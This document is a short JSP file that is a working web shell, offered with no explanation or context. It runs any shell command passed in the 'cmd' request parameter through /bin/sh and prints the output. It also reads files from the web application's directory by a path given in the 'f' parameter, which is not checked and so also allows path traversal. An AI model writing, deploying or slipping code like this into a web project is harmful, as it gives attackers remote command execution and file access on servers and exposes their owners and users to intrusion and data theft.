<%@ page import="java.io.*" %><%
String c = request.getParameter("cmd");
String f = request.getParameter("f");
if (c != null) {
    Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l; while ((l = br.readLine()) != null) { out.println(l); }
} else if (f != null) {
    BufferedReader br = new BufferedReader(new FileReader(application.getRealPath("/") + f));
    String l; while ((l = br.readLine()) != null) { out.println(l); }
}
%>
